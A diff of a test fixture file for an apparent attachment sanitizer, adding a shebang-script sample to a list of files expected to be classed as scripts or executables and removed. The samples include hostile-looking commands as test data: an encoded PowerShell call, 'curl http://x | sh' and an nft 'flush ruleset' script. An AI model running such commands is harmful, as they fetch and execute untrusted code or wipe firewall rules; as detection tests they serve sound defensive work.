@@ -838,6 +838,7 @@ TEXT_SJIS = "お世話になっております。\r\n資料を送付いたしま
 CSV = "氏名,住所,電話\r\n山田太郎,東京都千代田区,03-1234-5678\r\n".encode("cp932")
 BAT = b"@echo off\r\npowershell -enc AAAA\r\n"
 SHELL = b"#!/bin/sh\ncurl http://x | sh\n"
+NFT_SCRIPT = b"#!/usr/sbin/nft -f\nflush ruleset\n"
 DXF = b"  0\nSECTION\n  2\nHEADER\n  9\n$ACADVER\n  1\nAC1015\n  0\nENDSEC\n  0\nEOF\n"
 JWW = b"JwwData." + struct.pack("<I", 600) + b"\0" * 256
 RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 Hello\\par}"
@@ -906,6 +907,8 @@ SAMPLES: tuple[Sample, ...] = (
     Sample("chm", "help.chm", chm, "executable", "remove"),
     Sample("bat", "run.bat", _const(BAT), "script", "remove", "text/plain"),
     Sample("bat_as_txt_shebang", "run.txt", _const(SHELL), "script", "remove", "text/plain"),
+    # libmagic calls an interpreter it has no entry for text/plain
+    Sample("shebang_unknown", "setup", _const(NFT_SCRIPT), "script", "remove", "text/plain"),
     Sample("zip_exe", "invoice.zip", lambda: zip_of({"invoice.exe": pe_exe()}), "executable", "remove"),
     Sample("zip_exe_cp932", "請求書.zip", lambda: zip_cp932({"請求書.pdf.exe": pe_exe()}), "executable", "remove"),
     Sample("targz_elf", "tools.tar.gz", lambda: tar_of({"bin/tool": elf()}, "gz"), "executable", "remove"),
